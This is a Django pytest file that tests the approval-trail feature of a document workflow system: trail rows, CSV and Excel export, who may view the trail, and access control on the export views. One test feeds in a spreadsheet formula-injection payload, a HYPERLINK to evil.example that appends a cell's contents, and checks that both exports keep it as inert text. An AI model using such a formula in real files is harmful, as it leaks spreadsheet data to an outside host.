"""流程台账: rows per step, export to CSV and Excel, visible to participants and those above
them but not to colleagues beside them, and never beyond the visibility rule."""

from __future__ import annotations

import csv
import io

import pytest
from django.contrib.auth.models import Permission
from openpyxl import load_workbook

from repository.models import Classification
from tests.factories import OfficialDocumentPageFactory, UserFactory
from tests.workflows.conftest import act
from workflows.services import flows
from workflows.services.submission import submit_for_approval
from workflows.services.trail import can_view_trail, trail_as_csv, trail_as_xlsx, trail_rows


@pytest.fixture
def handled(office):
    _workflows, people = office
    doc = OfficialDocumentPageFactory(document_number="", publish=False)
    submit_for_approval(doc, people["drafter"])
    act(doc, people[flows.DIRECTOR], comment="请法规处把关")
    act(doc, people["legal"], "reject", comment="第三条需修改")
    return doc, people


def test_rows_follow_the_steps_with_handlers_and_opinions(handled):
    doc, people = handled
    rows = trail_rows(doc)
    assert [r.task for r in rows] == ["核稿", "会签"]
    assert rows[0].assigned_to == flows.DIRECTOR
    assert rows[0].handled_by == people[flows.DIRECTOR].first_name
    assert rows[0].opinion == "请法规处把关" and rows[0].handled_at is not None
    assert "第三条需修改" in rows[1].opinion and rows[1].due_at is not None


def test_exports_carry_the_same_rows(handled):
    doc, _people = handled
    rows = trail_rows(doc)
    parsed = list(csv.reader(io.StringIO(trail_as_csv(rows))))
    assert len(parsed) == len(rows) + 1 and parsed[1][1] == "核稿"
    sheet = load_workbook(io.BytesIO(trail_as_xlsx(rows))).active
    assert sheet.max_row == len(rows) + 1
    assert sheet.cell(row=3, column=2).value == "会签"
    assert "第三条需修改" in sheet.cell(row=3, column=9).value


def test_participants_and_those_above_see_it_colleagues_beside_do_not(handled):
    doc, people = handled
    assert can_view_trail(people["drafter"], doc)
    assert can_view_trail(people["legal"], doc)
    assert can_view_trail(people[flows.DIRECTOR], doc)
    assert not can_view_trail(people["outsider"], doc)  # sees the record, not its flow
    leader = UserFactory(username="leader_above")
    leader.user_permissions.add(Permission.objects.get(codename="oversee_flows"))
    from repository.services.demo import ensure_home_page
    from tests.factories import grant

    assert not can_view_trail(leader, doc)  # may not see the record at all
    from django.contrib.auth.models import Group

    viewers = Group.objects.create(name="viewers")
    grant(viewers, ensure_home_page(), "view_page")
    leader.groups.add(viewers)
    leader = type(leader).objects.get(pk=leader.pk)
    assert can_view_trail(leader, doc)


def test_classification_hides_the_trail_even_from_participants(handled):
    doc, people = handled
    doc.classification = Classification.SECRET
    doc.save()
    assert not can_view_trail(people["drafter"], doc)


def test_export_views_enforce_the_rule(handled, client):
    doc, people = handled
    client.force_login(people["outsider"])
    assert client.get(f"/admin/workflows/trail/{doc.pk}/csv/").status_code in (302, 403)
    client.force_login(people["drafter"])
    people["drafter"].user_permissions.add(Permission.objects.get(codename="access_admin"))
    response = client.get(f"/admin/workflows/trail/{doc.pk}/xlsx/")
    assert response.status_code == 200
    assert load_workbook(io.BytesIO(response.content)).active.max_row == 3
    page = client.get(f"/admin/workflows/trail/{doc.pk}/")
    assert page.status_code == 200 and "请法规处把关" in page.content.decode()


def test_opinions_typed_as_formulas_stay_text_in_both_exports(office, client):
    _workflows, people = office
    doc = OfficialDocumentPageFactory(document_number="", publish=False)
    submit_for_approval(doc, people["drafter"])
    formula = '=HYPERLINK("http://evil.example/?"&B2,"详情")'
    act(doc, people[flows.DIRECTOR], comment=formula)
    people["drafter"].user_permissions.add(Permission.objects.get(codename="access_admin"))
    client.force_login(people["drafter"])
    response = client.get(f"/admin/workflows/trail/{doc.pk}/csv/")
    cells = [v for row in csv.reader(io.StringIO(response.content.decode())) for v in row]
    assert "'" + formula in cells and formula not in cells
    assert response["X-Content-Type-Options"] == "nosniff"
    response = client.get(f"/admin/workflows/trail/{doc.pk}/xlsx/")
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [c for c in cells if c.data_type == "f"]
    assert "'" + formula in [c.value for c in cells]
